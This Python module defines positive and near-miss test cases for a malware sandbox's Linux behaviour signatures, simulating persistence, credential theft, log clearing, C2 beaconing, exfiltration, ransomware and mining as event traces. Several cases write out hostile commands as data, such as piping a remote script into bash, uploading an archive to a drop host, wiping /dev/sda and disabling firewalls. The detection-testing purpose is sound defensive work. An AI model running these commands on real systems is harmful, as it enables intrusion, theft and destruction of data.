"""For every signature: a behaviour that must trigger it (``pos_<id>``) and a near miss that
must not (``neg_<id>``). Each function fills a fresh :class:`Builder`."""

from __future__ import annotations

from collections.abc import Callable

from .builder import APPEND, ROOT, Builder, elf, script, strings, yara
from .cases_techniques import NEGATIVE as _TECHNIQUE_NEGATIVE
from .cases_techniques import POSITIVE as _TECHNIQUE_POSITIVE
from .cases_windows import NEGATIVE as _WINDOWS_NEGATIVE
from .cases_windows import POSITIVE as _WINDOWS_POSITIVE

Case = Callable[[Builder], None]


# --- persistence -----------------------------------------------------------------------
def pos_persistence_cron(b: Builder) -> None:
    b.write("/etc/cron.d/updater")
    b.run(["crontab", "/tmp/job"])


def neg_persistence_cron(b: Builder) -> None:
    b.read("/etc/crontab")
    b.run(["crontab", "-l"])


def pos_persistence_systemd_unit(b: Builder) -> None:
    b.write("/etc/systemd/system/dbus-helper.service")
    b.run(["systemctl", "enable", "dbus-helper"])


def neg_persistence_systemd_unit(b: Builder) -> None:
    b.read("/lib/systemd/system/ssh.service")
    b.run(["systemctl", "status", "ssh"])


def pos_persistence_rc_scripts(b: Builder) -> None:
    b.write("/etc/rc.local", flags="O_WRONLY|O_APPEND")
    b.run(["update-rc.d", "helper", "defaults"])


def neg_persistence_rc_scripts(b: Builder) -> None:
    b.read("/etc/init.d/ssh")
    b.run(["update-rc.d", "helper", "remove"])


def pos_persistence_shell_profile(b: Builder) -> None:
    b.write("/root/.bashrc", flags="O_WRONLY|O_APPEND")
    b.write("/etc/profile.d/proxy.sh")


def neg_persistence_shell_profile(b: Builder) -> None:
    shell = b.run(["bash", "-i"], image="/bin/bash")
    b.read("/root/.bashrc", key=shell)
    b.read("/etc/profile", key=shell)


def pos_persistence_ld_so_preload(b: Builder) -> None:
    b.write("/etc/ld.so.preload")


def neg_persistence_ld_so_preload(b: Builder) -> None:
    b.read("/etc/ld.so.preload", ok=False)
    b.read("/etc/ld.so.cache")


def pos_persistence_ssh_authorized_keys(b: Builder) -> None:
    b.write("/root/.ssh/authorized_keys", flags=APPEND)


def neg_persistence_ssh_authorized_keys(b: Builder) -> None:
    b.read("/root/.ssh/authorized_keys")
    b.write("/root/.ssh/known_hosts", flags=APPEND)


def pos_persistence_udev_rules(b: Builder) -> None:
    b.write("/etc/udev/rules.d/99-usb.rules")


def neg_persistence_udev_rules(b: Builder) -> None:
    b.read("/lib/udev/rules.d/60-persistent-storage.rules")


def pos_persistence_kernel_module(b: Builder) -> None:
    loader = b.run(["insmod", "/tmp/rk.ko"], image="/usr/sbin/insmod")
    b.syscall("finit_module", key=loader)


def neg_persistence_kernel_module(b: Builder) -> None:
    b.run(["lsmod"], image="/usr/sbin/lsmod")
    b.run(["modprobe", "-r", "floppy"], image="/usr/sbin/modprobe")
    b.read("/proc/modules")


def pos_persistence_local_account(b: Builder) -> None:
    b.run(["useradd", "-o", "-u", "0", "sysadm"], image="/usr/sbin/useradd")
    b.write("/etc/passwd", flags="O_WRONLY|O_APPEND")


def neg_persistence_local_account(b: Builder) -> None:
    ls = b.run(["ls", "-l", "/tmp"], image="/bin/ls")
    b.read("/etc/passwd", key=ls)
    b.run(["passwd", "-S", "root"])


# --- privilege escalation and credentials ----------------------------------------------
def pos_privesc_setuid_setgid(b: Builder) -> None:
    b.write("/tmp/.sh")
    b.chmod("/tmp/.sh", "4755")


def neg_privesc_setuid_setgid(b: Builder) -> None:
    b.write("/tmp/tool")
    b.chmod("/tmp/tool", "0755")


def pos_privesc_sudoers(b: Builder) -> None:
    b.write("/etc/sudoers.d/90-nopasswd")


def neg_privesc_sudoers(b: Builder) -> None:
    sudo = b.run(["sudo", "-n", "true"], image="/usr/bin/sudo")
    b.read("/etc/sudoers", key=sudo)


def pos_credential_shadow_read(b: Builder) -> None:
    cat = b.run(["cat", "/etc/shadow"], image="/bin/cat")
    b.read("/etc/shadow", key=cat, ok=False)


def neg_credential_shadow_read(b: Builder) -> None:
    b.read("/etc/passwd")
    helper = b.run(["unix_chkpwd", "root"], image="/usr/sbin/unix_chkpwd")
    b.read("/etc/shadow", key=helper)


def pos_credential_ssh_private_keys(b: Builder) -> None:
    b.read("/home/alice/.ssh/id_ed25519")
    b.read("/etc/ssh/ssh_host_rsa_key")


def neg_credential_ssh_private_keys(b: Builder) -> None:
    b.read("/home/alice/.ssh/id_ed25519.pub")
    b.read("/home/alice/.ssh/known_hosts")
    ssh = b.run(["ssh", "host"], image="/usr/bin/ssh")
    b.read("/home/alice/.ssh/id_rsa", key=ssh)


def pos_credential_files(b: Builder) -> None:
    b.read("/root/.bash_history")
    b.read("/home/alice/.aws/credentials")


def neg_credential_files(b: Builder) -> None:
    bash = b.run(["bash", "-i"], image="/bin/bash")
    b.read("/root/.bash_history", key=bash)
    b.read("/etc/hosts")


def pos_credential_brute_force(b: Builder) -> None:
    b.connect("198.51.100.20", 22, count=12, result="ECONNREFUSED")


def neg_credential_brute_force(b: Builder) -> None:
    b.connect("198.51.100.20", 22, count=3)
    b.connect("198.51.100.20", 80, count=40)


# --- stealth ---------------------------------------------------------------------------
def pos_stealth_self_deletion(b: Builder) -> None:
    rm = b.run(["rm", "-f", "/tmp/sample"], image="/bin/rm")
    b.delete("/tmp/sample", key=rm)
    script = b.run(["sh", "/tmp/dropper.sh"], image="/bin/sh")  # a script run by its shell
    b.delete("/tmp/dropper.sh", key=b.run(["rm", "/tmp/dropper.sh"], parent=script))
    # An option before the script ("-e" is errexit for a shell, not code).
    strict = b.run(["sh", "-e", "/tmp/helper-a.sh"], image="/usr/bin/sh")
    b.delete("/tmp/helper-a.sh", key=b.run(["rm", "-f", "/tmp/helper-a.sh"], parent=strict))
    # Python with a valued option, unlinking __file__ itself; a relative script and its cwd.
    py = b.run(["python3", "-W", "ignore", "/tmp/helper-b.py"], image="/usr/bin/python3")
    b.delete("/tmp/helper-b.py", key=py)
    rel = b.run(["sh", "./helper-c.sh"], image="/usr/bin/sh", cwd="/var/tmp")
    b.delete("/var/tmp/helper-c.sh", key=b.run(["rm", "./helper-c.sh"], parent=rel))


def neg_stealth_self_deletion(b: Builder) -> None:
    b.write("/tmp/scratch")
    b.delete("/tmp/scratch")
    b.run(["sh", "-c", "rm /tmp/other.sh"], image="/bin/sh")
    b.delete("/tmp/other.sh")
    # A script deleting a different file than itself.
    script = b.run(["sh", "/tmp/cleanup.sh"], image="/usr/bin/sh")
    b.delete("/tmp/cleanup.log", key=b.run(["rm", "/tmp/cleanup.log"], parent=script))
    # The named files are arguments, not the program: stdin (-s), rc file, a module's input.
    stdin = b.run(["sh", "-s", "/tmp/arg.sh"], image="/usr/bin/sh")
    b.delete("/tmp/arg.sh", key=b.run(["rm", "/tmp/arg.sh"], parent=stdin))
    rc = b.run(["bash", "--rcfile", "/tmp/rc.sh", "-i"], image="/usr/bin/bash")
    b.delete("/tmp/rc.sh", key=b.run(["rm", "/tmp/rc.sh"], parent=rc))
    module = b.run(["python3", "-m", "tool", "/tmp/input.py"], image="/usr/bin/python3")
    b.delete("/tmp/input.py", key=module)
    php = b.run(["php", "-c", "/tmp/php.ini", "/srv/app.php"], image="/usr/bin/php")
    b.delete("/tmp/php.ini", key=php)


def pos_stealth_clear_command_history(b: Builder) -> None:
    b.delete("/root/.bash_history")
    b.shell("history -c")


def neg_stealth_clear_command_history(b: Builder) -> None:
    bash = b.run(["bash", "-i"], image="/bin/bash")
    b.read("/root/.bash_history", key=bash)
    b.write("/root/.bash_history", key=bash)  # the shell saving its history on exit


def pos_stealth_timestomp(b: Builder) -> None:
    b.run(["touch", "-r", "/bin/ls", "/usr/bin/.helper"], image="/usr/bin/touch")
    b.syscall("utimensat", 2)


def neg_stealth_timestomp(b: Builder) -> None:
    touch = b.run(["touch", "/tmp/stamp"], image="/usr/bin/touch")
    b.syscall("utimensat", key=touch)
    tar = b.run(["tar", "xf", "/tmp/a.tar"], image="/bin/tar")
    b.syscall("utimensat", 30, key=tar)
    cp = b.run(["python3", "copy.py"], image="/usr/bin/python3")
    b.write("/tmp/copy", key=cp)
    b.syscall("utimensat", key=cp)


def pos_stealth_kernel_thread_masquerade(b: Builder) -> None:
    worker = b.fork()
    b.rename_process(worker, "[kworker/0:2]")


def neg_stealth_kernel_thread_masquerade(b: Builder) -> None:
    b.run(["kworker-stats", "--help"])
    b.rename_process(ROOT, "worker")


def pos_stealth_system_name_masquerade(b: Builder) -> None:
    b.run(["sshd", "-D"], image="/dev/shm/sshd")


def neg_stealth_system_name_masquerade(b: Builder) -> None:
    b.run(["sshd", "-t"], image="/usr/sbin/sshd")
    b.run(["my-sshd-check"], image="/tmp/my-sshd-check")


def pos_stealth_hidden_tmp_directory(b: Builder) -> None:
    b.mkdir("/tmp/.ICE-unix-x")
    b.write("/var/tmp/.cache/kworker")
    b.run(["/var/tmp/.cache/kworker"])
    b.run(["sh", "/tmp/.x/run.sh"], image="/usr/bin/sh")  # a hidden script, interpreted


def neg_stealth_hidden_tmp_directory(b: Builder) -> None:
    b.mkdir("/tmp/.X11-unix")
    b.mkdir("/tmp/.org.chromium.Chromium.a1b2c3")
    b.write("/tmp/build/.config")
    b.write("/root/.cache/pip/x")
    b.run(["sh", "-c", ". /tmp/.env", "/tmp/.x/run.sh"], image="/usr/bin/sh")


def pos_stealth_dev_shm_execution(b: Builder) -> None:
    b.write("/dev/shm/x")
    b.run(["/dev/shm/x"])
    b.run(["python3", "-u", "/dev/shm/agent.py"], image="/usr/bin/python3")


def neg_stealth_dev_shm_execution(b: Builder) -> None:
    b.write("/dev/shm/sem.lock")
    b.run(["/tmp/tool"])
    b.run(["python3", "/opt/tool.py", "/dev/shm/data.py"], image="/usr/bin/python3")


def pos_stealth_ld_preload_injection(b: Builder) -> None:
    b.shell("LD_PRELOAD=/tmp/libhide.so ls -la /")
    ls = b.run(["ls", "-la", "/"], image="/bin/ls")
    b.read("/tmp/libhide.so", key=ls)


def neg_stealth_ld_preload_injection(b: Builder) -> None:
    py = b.run(["python3", "-m", "ext"], image="/usr/bin/python3")
    b.read("/tmp/build/ext.cpython-311-x86_64-linux-gnu.so", key=py)
    b.read("/tmp/libown.so")  # the sample loading its own library
    b.shell("export PATH=/usr/local/bin:$PATH")


def pos_stealth_fileless_execution(b: Builder) -> None:
    b.syscall("memfd_create")
    b.syscall("execveat")
    b.run(["[kdmtmpflush]"], image="/proc/self/fd/3")


def neg_stealth_fileless_execution(b: Builder) -> None:
    b.syscall("memfd_create", 3)
    b.run(["ls"], image="/bin/ls")


def pos_stealth_ptrace_injection(b: Builder) -> None:
    b.ptrace(16, "PTRACE_ATTACH", 1)
    b.ptrace(4, "PTRACE_POKETEXT", 1)


def neg_stealth_ptrace_injection(b: Builder) -> None:
    b.ptrace(16, "PTRACE_ATTACH", 1)
    b.ptrace(2, "PTRACE_PEEKDATA", 1)


# --- defense impairment ----------------------------------------------------------------
def pos_impair_log_clearing(b: Builder) -> None:
    b.shell("> /var/log/auth.log; rm -f /var/log/syslog")
    b.write("/var/log/auth.log")
    b.delete("/var/log/syslog")
    b.write("/var/log/wtmp", flags="O_RDWR")


def neg_impair_log_clearing(b: Builder) -> None:
    b.write("/var/log/sample.log", flags=APPEND)
    b.write("/var/log/myapp/run.log")  # a fresh log of its own (O_CREAT|O_TRUNC)
    b.delete("/var/log/myapp/run.log")
    b.read("/var/log/syslog")
    b.run(["journalctl", "-n", "20"], image="/bin/journalctl")


def pos_impair_history_logging(b: Builder) -> None:
    b.shell("unset HISTFILE; export HISTSIZE=0")
    b.shell("HISTFILE=/dev/null")
    b.link("/root/.bash_history", "/dev/null")


def neg_impair_history_logging(b: Builder) -> None:
    b.shell("export HISTTIMEFORMAT='%F'; unset LANG")
    b.link("/root/.bash_history", "/root/.history.bak")


def pos_impair_firewall(b: Builder) -> None:
    b.run(["iptables", "-F"], image="/usr/sbin/iptables")
    b.shell("ufw disable; systemctl stop firewalld")


def neg_impair_firewall(b: Builder) -> None:
    b.run(["iptables", "-L", "-n"], image="/usr/sbin/iptables")
    b.run(["ufw", "status"], image="/usr/sbin/ufw")


def pos_impair_security_tools(b: Builder) -> None:
    b.run(["setenforce", "0"], image="/usr/sbin/setenforce")
    b.shell("systemctl stop aliyun.service; pkill -9 osqueryd")
    b.delete("/usr/local/aegis/aegis_client/aegis_10_73/AliYunDun")


def neg_impair_security_tools(b: Builder) -> None:
    b.run(["getenforce"], image="/usr/sbin/getenforce")
    b.run(["systemctl", "restart", "ssh"])
    b.run(["pkill", "-f", "myworker"])


def pos_impair_audit_logging(b: Builder) -> None:
    b.run(["auditctl", "-e", "0"], image="/sbin/auditctl")
    b.shell("service rsyslog stop; killall -9 auditd")


def neg_impair_audit_logging(b: Builder) -> None:
    b.run(["auditctl", "-l"], image="/sbin/auditctl")
    b.run(["systemctl", "status", "rsyslog"])
    b.read("/etc/rsyslog.conf")


def pos_impair_immutable_attribute(b: Builder) -> None:
    b.run(["chattr", "+i", "/etc/ld.so.preload"], image="/usr/bin/chattr")


def neg_impair_immutable_attribute(b: Builder) -> None:
    b.run(["lsattr", "/etc/ld.so.preload"], image="/usr/bin/lsattr")
    b.run(["chattr", "-R", "+d", "/srv/backup"], image="/usr/bin/chattr")


# --- discovery and anti-analysis -------------------------------------------------------
def pos_discovery_system_info(b: Builder) -> None:
    b.run(["uname", "-a"], image="/bin/uname")
    b.read("/proc/cpuinfo")


def neg_discovery_system_info(b: Builder) -> None:
    b.read("/proc/cpuinfo")  # one look is what numeric libraries do at start


def pos_discovery_network_config(b: Builder) -> None:
    b.run(["ip", "addr"], image="/usr/sbin/ip")
    b.read("/proc/net/route")


def neg_discovery_network_config(b: Builder) -> None:
    b.read("/etc/resolv.conf")
    b.read("/etc/hosts")
    b.run(["ip", "-V"], image="/usr/sbin/ip")


def pos_discovery_processes(b: Builder) -> None:
    for pid in (1, 200, 201, 202, 203):
        b.read(f"/proc/{pid}/cmdline")


def neg_discovery_processes(b: Builder) -> None:
    b.read("/proc/100/cmdline")  # its own
    b.read("/proc/1/cmdline")
    b.read("/proc/self/maps")


def pos_discovery_users(b: Builder) -> None:
    b.run(["id"], image="/usr/bin/id")
    cat = b.run(["cat", "/etc/passwd"], image="/bin/cat")
    b.read("/etc/passwd", key=cat)


def neg_discovery_users(b: Builder) -> None:
    ls = b.run(["ls", "-l", "/home"], image="/bin/ls")
    b.read("/etc/passwd", key=ls)
    b.read("/etc/group", key=ls)


def pos_discovery_sandbox_checks(b: Builder) -> None:
    b.read("/sys/class/dmi/id/product_name")
    b.shell("dmesg | grep -i qemu")


def neg_discovery_sandbox_checks(b: Builder) -> None:
    b.read("/proc/cpuinfo")
    b.run(["grep", "-r", "TODO", "/srv/src"], image="/bin/grep")


def pos_discovery_suid_binaries(b: Builder) -> None:
    b.run(["find", "/", "-perm", "-4000", "-type", "f"], image="/usr/bin/find")


def neg_discovery_suid_binaries(b: Builder) -> None:
    b.run(["find", "/tmp", "-perm", "644", "-name", "*.log"], image="/usr/bin/find")


def pos_discovery_port_scan(b: Builder) -> None:
    for port in range(20, 45):
        b.connect("192.0.2.50", port, result="ECONNREFUSED")


def neg_discovery_port_scan(b: Builder) -> None:
    for port in (80, 443, 8080):
        b.connect("192.0.2.50", port)
    for n in range(30):
        b.udp(f"10.0.2.{n}", 53)


def pos_antianalysis_ptrace_traceme(b: Builder) -> None:
    b.ptrace(0, "PTRACE_TRACEME", 0)


def neg_antianalysis_ptrace_traceme(b: Builder) -> None:
    b.ptrace(16, "PTRACE_ATTACH", 1)


def pos_antianalysis_tracerpid_check(b: Builder) -> None:
    b.read("/proc/self/status")


def neg_antianalysis_tracerpid_check(b: Builder) -> None:
    b.read("/proc/1/status")
    b.read("/proc/self/cmdline")


# --- command and control, lateral movement ---------------------------------------------
def pos_c2_http_beacon(b: Builder) -> None:
    for i in range(5):
        b.http("c2.example.net", f"/gate.php?id={i}", at=2000.0 + 10 * i + (i % 2) * 0.3)


def neg_c2_http_beacon(b: Builder) -> None:
    for i in range(6):
        b.http("deb.debian.org", "/pool/p.deb", at=2000.0 + 0.05 * i)  # a burst
    b.http("example.org", "/", at=2100.0)
    b.http("example.org", "/", at=2160.0)


def pos_c2_raw_ip_high_port(b: Builder) -> None:
    b.flow("198.51.100.7", 4443)
    b.connect("198.51.100.7", 4443)


def neg_c2_raw_ip_high_port(b: Builder) -> None:
    b.dns("update.example.com", answer="203.0.113.10")
    b.connect("203.0.113.10", 8443)
    b.connect("127.0.0.1", 5000)
    b.connect("198.51.100.7", 443)


def pos_c2_random_domains(b: Builder) -> None:
    b.dns("kzqxwvbnmtrp.com", answer=None)
    b.dns("xjwqkzpfhd.net", answer=None)


def neg_c2_random_domains(b: Builder) -> None:
    b.dns("deb.debian.org")
    b.dns("files.pythonhosted.org")
    b.dns("kzqxwvbnmtrp.com")  # one such name alone


def pos_c2_irc(b: Builder) -> None:
    b.connect("198.51.100.9", 6667)


def neg_c2_irc(b: Builder) -> None:
    b.connect("127.0.0.1", 6667)
    b.connect("198.51.100.9", 6000)


def pos_c2_tor(b: Builder) -> None:
    b.connect("127.0.0.1", 9050)
    b.static(strings=strings(domains=["abcdefghijklmnop.onion"]))


def neg_c2_tor(b: Builder) -> None:
    b.connect("198.51.100.4", 9000)
    b.static(strings=strings(domains=["onion.example.com"]))


def pos_lateral_ssh_telnet_spread(b: Builder) -> None:
    for n in range(6):
        b.connect(f"198.51.100.{n + 1}", 23, result="ETIMEDOUT")


def neg_lateral_ssh_telnet_spread(b: Builder) -> None:
    for n in range(3):
        b.connect(f"198.51.100.{n + 1}", 22)
    b.connect("127.0.0.1", 22)


# --- collection, exfiltration ----------------------------------------------------------
def pos_collection_archive_sensitive(b: Builder) -> None:
    b.run(["tar", "czf", "/tmp/.x.tgz", "/etc", "/root/.ssh"], image="/bin/tar")


def neg_collection_archive_sensitive(b: Builder) -> None:
    b.run(["tar", "xzf", "/tmp/etc-backup.tgz", "-C", "/tmp/x"], image="/bin/tar")
    b.run(["tar", "czf", "/tmp/out.tgz", "/tmp/build"], image="/bin/tar")


def pos_exfil_http_upload(b: Builder) -> None:
    b.http("drop.example.net", "/upload", method="POST", body=300_000)
    b.run(["curl", "-F", "f=@/tmp/.x.tgz", "http://drop.example.net/u"])


def neg_exfil_http_upload(b: Builder) -> None:
    b.http("api.example.net", "/login", method="POST", body=200)
    b.run(["curl", "-o", "/tmp/x", "http://example.net/x"])
    b.run(["curl", "-F", "name=alice", "http://example.net/form"])
    b.flow("203.0.113.10", 443, sent=2_000, received=5_000_000)


# --- impact ----------------------------------------------------------------------------
def pos_impact_mass_encryption(b: Builder) -> None:
    for n in range(25):
        b.rename(f"/home/alice/docs/file{n}.docx", f"/home/alice/docs/file{n}.docx.locked")


def neg_impact_mass_encryption(b: Builder) -> None:
    for n in range(25):
        b.write(f"/srv/data/log{n}.txt.gz")
        b.delete(f"/srv/data/log{n}.txt")  # gzip
        b.rename(f"/srv/conf/c{n}.tmp", f"/srv/conf/c{n}.conf")  # atomic saves


def pos_impact_ransom_note(b: Builder) -> None:
    for folder in ("/home/alice", "/home/alice/docs", "/srv"):
        b.write(f"{folder}/HOW_TO_DECRYPT.txt")


def neg_impact_ransom_note(b: Builder) -> None:
    for folder in ("/tmp/a", "/tmp/b", "/tmp/c"):
        b.write(f"{folder}/README.md")
    b.write("/tmp/decrypt_notes.txt")


def pos_impact_disk_wipe(b: Builder) -> None:
    dd = b.run(["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"], image="/bin/dd")
    b.write("/dev/sda", key=dd, flags="O_WRONLY|O_CREAT|O_TRUNC")


def neg_impact_disk_wipe(b: Builder) -> None:
    dd = b.run(["dd", "if=/dev/sda", "of=/tmp/mbr", "count=1"], image="/bin/dd")
    b.read("/dev/sda", key=dd)
    b.write("/tmp/mbr", key=dd)


def pos_impact_secure_delete(b: Builder) -> None:
    b.run(["shred", "-u", "/home/alice/secret.txt"], image="/usr/bin/shred")


def neg_impact_secure_delete(b: Builder) -> None:
    b.run(["shred", "--version"], image="/usr/bin/shred")
    b.run(["rm", "/tmp/x"], image="/bin/rm")


def pos_impact_mass_deletion(b: Builder) -> None:
    for n in range(120):
        b.delete(f"/home/alice/photos/img{n}.jpg")


def neg_impact_mass_deletion(b: Builder) -> None:
    for n in range(150):
        b.write(f"/srv/build/obj{n}.o")
    for n in range(150):
        b.delete(f"/srv/build/obj{n}.o")  # make clean
        b.delete(f"/tmp/cache/{n}")
    dpkg = b.run(["dpkg", "--purge", "bigpackage"], image="/usr/bin/dpkg")
    for n in range(150):
        b.delete(f"/usr/share/bigpackage/f{n}", key=dpkg)


def pos_impact_mining_stratum(b: Builder) -> None:
    b.run(["/tmp/.x/kthreadd", "-o", "stratum+tcp://pool.example.net:3333", "-u", "44abc"])
    b.dns("pool.supportxmr.com")


def neg_impact_mining_stratum(b: Builder) -> None:
    b.run(["ntpdate", "pool.ntp.org"])
    b.dns("pool.ntp.org")
    b.static(strings=strings(urls=["http://example.org/stratum/docs"]))


def pos_impact_miner_program(b: Builder) -> None:
    b.run(["xmrig", "--donate-level", "1"], image="/tmp/xmrig")


def neg_impact_miner_program(b: Builder) -> None:
    b.run(["miner-report", "--daily"], image="/usr/local/bin/miner-report")


def pos_impact_mining_pool_port(b: Builder) -> None:
    b.connect("198.51.100.30", 3333)


def neg_impact_mining_pool_port(b: Builder) -> None:
    b.connect("127.0.0.1", 3333)
    b.connect("198.51.100.30", 3334)


def pos_impact_fork_bomb(b: Builder) -> None:
    for _ in range(120):
        b.fork()


def neg_impact_fork_bomb(b: Builder) -> None:
    for n in range(120):
        b.run(["cc1", f"unit{n}.c"], image="/usr/lib/gcc/x86_64-linux-gnu/12/cc1")
    for _ in range(10):
        b.fork()


# --- execution -------------------------------------------------------------------------
def pos_execution_download_chmod_exec(b: Builder) -> None:
    wget = b.run(["wget", "-q", "http://203.0.113.5/x86", "-O", "/tmp/.x86"])
    b.connect("203.0.113.5", 80, key=wget)
    b.write("/tmp/.x86", key=wget)
    b.chmod("/tmp/.x86", "0777")
    b.run(["/tmp/.x86"])
    # Written by a second process: the pipeline stage the fetcher feeds ...
    fetch = b.run(
        ["busybox", "wget", "-q", "-O", "-", "http://203.0.113.5/p"], image="/bin/busybox"
    )
    cat = b.run(["cat"], image="/usr/bin/cat")
    b.connect("203.0.113.5", 80, key=fetch)
    b.write("/tmp/stage-c", key=cat)
    b.end(cat)
    b.end(fetch)
    b.chmod("/tmp/stage-c", "0755")
    b.run(["/tmp/stage-c"])
    # ... and a copy of a downloaded file.
    dl = b.run(["busybox", "wget", "-O", "/tmp/dl-e", "http://203.0.113.5/e"], image="/bin/busybox")
    b.connect("203.0.113.5", 80, key=dl)
    b.write("/tmp/dl-e", key=dl)
    b.end(dl)
    cp = b.run(["cp", "/tmp/dl-e", "/tmp/stage-e"], image="/usr/bin/cp")
    b.read("/tmp/dl-e", key=cp)
    b.write("/tmp/stage-e", key=cp)
    b.chmod("/tmp/stage-e", "0755")
    b.run(["/tmp/stage-e"])


def neg_execution_download_chmod_exec(b: Builder) -> None:
    ld = b.run(["ld", "-o", "a.out", "main.o"], image="/usr/bin/ld")
    b.create("/tmp/a.out", "0777", key=ld)
    b.run(["/tmp/a.out"])
    wget = b.run(["wget", "http://203.0.113.5/data.txt"])
    b.connect("203.0.113.5", 80, key=wget)
    b.write("/tmp/data.txt", key=wget)
    # A download piped into a file that is never made executable nor run.
    curl = b.run(["curl", "-s", "http://203.0.113.5/list"], image="/usr/bin/curl")
    cat = b.run(["cat"], image="/usr/bin/cat")
    b.connect("203.0.113.5", 80, key=curl)
    b.write("/tmp/list.txt", key=cat)
    b.end(cat)
    b.end(curl)
    # A copy of a local program, made executable and run.
    cp = b.run(["cp", "/bin/true", "/tmp/mytrue"], image="/usr/bin/cp")
    b.read("/bin/true", key=cp)
    b.write("/tmp/mytrue", key=cp)
    b.chmod("/tmp/mytrue", "0755")
    b.run(["/tmp/mytrue"])


def pos_execution_written_file_run(b: Builder) -> None:
    b.write("/tmp/stage2")
    b.run(["/tmp/stage2"])
    b.write("/tmp/gen.py")
    b.run(["python3", "/tmp/gen.py"], image="/usr/bin/python3")


def neg_execution_written_file_run(b: Builder) -> None:
    b.run(["/usr/bin/true"])
    b.write("/tmp/later")
    b.write("/tmp/input.txt")
    b.run(["python3", "/opt/tool.py", "/tmp/input.txt"], image="/usr/bin/python3")


def pos_execution_inline_interpreter(b: Builder) -> None:
    b.run(["python3", "-c", "import os; os.system('id')"], image="/usr/bin/python3")


def neg_execution_inline_interpreter(b: Builder) -> None:
    b.run(["python3", "tool.py", "-c", "config.ini"], image="/usr/bin/python3")
    b.run(["bash", "/tmp/script.sh"], image="/bin/bash")


def pos_execution_pipe_to_shell(b: Builder) -> None:
    b.shell("curl -fsSL http://203.0.113.5/i.sh | bash")
    b.shell("echo ZWNobyBoaQ== | base64 -d | sh")
    # The same pipeline written in a script file: only the process tree shows it.
    wget = b.run(["busybox", "wget", "-qO-", "http://203.0.113.5/i.sh"], image="/bin/busybox")
    sh = b.run(["sh"], image="/usr/bin/sh")
    b.connect("203.0.113.5", 80, key=wget)
    b.end(wget)
    b.end(sh)


def neg_execution_pipe_to_shell(b: Builder) -> None:
    b.shell("curl -fsSL -o /tmp/i.sh http://203.0.113.5/i.sh")
    b.shell("cat /etc/os-release | grep ID")
    b.shell("echo hi | sh")
    # A download piped into a module, not a program; a fetcher saving to a file.
    curl = b.run(["curl", "-s", "http://203.0.113.5/a.json"], image="/usr/bin/curl")
    b.run(["python3", "-m", "json.tool"], image="/usr/bin/python3")
    b.connect("203.0.113.5", 80, key=curl)
    b.end(curl)
    wget = b.run(["wget", "-q", "-O", "/tmp/i.sh", "http://203.0.113.5/i.sh"])
    b.run(["sh"], image="/usr/bin/sh")
    b.connect("203.0.113.5", 80, key=wget)
    # A fetcher that had finished before the interpreter started.
    old = b.run(["curl", "-s", "http://203.0.113.5/v"], image="/usr/bin/curl")
    b.connect("203.0.113.5", 80, key=old)
    b.end(old)
    b.run(["bash"], image="/usr/bin/bash")


def pos_execution_download_script_run(b: Builder) -> None:
    wget = b.run(["wget", "-q", "-O", "/tmp/i.sh", "http://203.0.113.5/i.sh"])
    b.connect("203.0.113.5", 80, key=wget)
    b.http("203.0.113.5", "/i.sh", key=wget)
    b.write("/tmp/i.sh", key=wget)
    b.end(wget)
    b.run(["sh", "-e", "/tmp/i.sh"], image="/usr/bin/sh")


def neg_execution_download_script_run(b: Builder) -> None:
    wget = b.run(["wget", "-q", "-O", "/tmp/data.py", "http://203.0.113.5/data.py"])
    b.connect("203.0.113.5", 80, key=wget)
    b.write("/tmp/data.py", key=wget)
    b.end(wget)
    # The download is an argument of the script, a module's input, or code's: never run.
    b.run(["python3", "/opt/tool.py", "/tmp/data.py"], image="/usr/bin/python3")
    b.run(["python3", "-m", "py_compile", "/tmp/data.py"], image="/usr/bin/python3")
    b.run(["sh", "-c", "wc -l /tmp/data.py", "/tmp/data.py"], image="/usr/bin/sh")
    # A script the sample wrote itself.
    b.write("/tmp/local.sh")
    b.run(["sh", "/tmp/local.sh"], image="/usr/bin/sh")


# --- static ----------------------------------------------------------------------------
def pos_static_packed(b: Builder) -> None:
    b.static(elf=elf(packers=["UPX"]))


def neg_static_packed(b: Builder) -> None:
    b.static(elf=elf())


def pos_static_yara(b: Builder) -> None:
    dropped = b.static(yara=[yara("Linux_Mirai_Strings", ["linux", "mirai"])]).model_copy()
    b.dropped("/tmp/.x86", dropped)


def neg_static_yara(b: Builder) -> None:
    b.static(strings=strings(urls=["http://example.org/"]))


def pos_static_script_indicators(b: Builder) -> None:
    b.static(script=script(["curl_pipe_shell", "history_clear"]))


def neg_static_script_indicators(b: Builder) -> None:
    b.static(script=script([]))


POSITIVE: dict[str, Case] = {
    name[4:]: fn for name, fn in list(globals().items()) if name.startswith("pos_")
}
NEGATIVE: dict[str, Case] = {
    name[4:]: fn for name, fn in list(globals().items()) if name.startswith("neg_")
}
# The signatures of the ATT&CK Linux techniques keep their cases in a module of their own.
assert not set(POSITIVE) & set(_TECHNIQUE_POSITIVE), set(POSITIVE) & set(_TECHNIQUE_POSITIVE)
POSITIVE.update(_TECHNIQUE_POSITIVE)
NEGATIVE.update(_TECHNIQUE_NEGATIVE)
# The Windows signatures (a PE sample run by Wine) likewise.
assert not set(POSITIVE) & set(_WINDOWS_POSITIVE), set(POSITIVE) & set(_WINDOWS_POSITIVE)
POSITIVE.update(_WINDOWS_POSITIVE)
NEGATIVE.update(_WINDOWS_NEGATIVE)
